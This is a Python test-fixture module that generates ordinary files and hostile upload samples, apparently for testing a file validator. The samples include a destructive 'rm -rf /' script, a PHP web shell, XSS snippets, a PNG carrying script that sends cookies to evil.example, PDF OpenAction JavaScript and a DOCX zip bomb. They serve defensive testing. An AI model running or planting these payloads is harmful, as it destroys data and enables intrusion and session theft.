"""Real files, made by the libraries people make them with, and hostile ones."""

from __future__ import annotations

import io
import zipfile
from functools import cache


@cache
def png(size: int = 16) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (size, size), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


@cache
def jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (32, 32), (30, 90, 200)).save(out, "JPEG", quality=80)
    return out.getvalue()


@cache
def gif() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    return out.getvalue()


@cache
def pdf() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (20, 20), (255, 255, 255)).save(out, "PDF")
    return out.getvalue()


@cache
def docx() -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    document.add_heading("Quarterly report", level=1)
    document.add_paragraph("Numbers went up. " * 50)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def big_png(min_bytes: int) -> bytes:
    """A valid PNG of at least `min_bytes` (noise does not compress)."""
    import os

    from PIL import Image

    side = int((min_bytes / 3) ** 0.5) + 1
    out = io.BytesIO()
    Image.frombytes("RGB", (side, side), os.urandom(side * side * 3)).save(out, "PNG", compress_level=0)
    return out.getvalue()


def _rezip(data: bytes, extra: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename not in drop:
                dst.writestr(item, src.read(item.filename))
        for name, payload in extra.items():
            dst.writestr(name, payload)
    return out.getvalue()


def docx_with_macros() -> bytes:
    """A VBA project renamed word/editdata.bin behind its relationship and content type."""
    from .hostile_office import docx_renamed_vba

    return docx_renamed_vba()[1]


def docx_zip_bomb() -> bytes:
    return _rezip(docx(), {"word/media/filler.bin": b"\0" * (200 * 1024 * 1024)})


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("readme.txt", "just a zip\n" * 100)
        z.writestr("data/values.csv", "a,b\n1,2\n" * 100)
    return out.getvalue()


def docx_without_document() -> bytes:
    return _rezip(docx(), {}, drop=("word/document.xml",))


SCRIPT = b"#!/bin/sh\nrm -rf / --no-preserve-root\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + (b"\x00" * 64 + b"PE\x00\x00\x4c\x01\x03\x00" + b"\x00" * 400)
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200
PHP = b"<?php system($_GET['c']); ?>"


def png_with_script() -> bytes:
    return png() + b"<script>fetch('//evil.example/'+document.cookie)</script>"


def pdf_with_javascript() -> bytes:
    return pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>", 1)
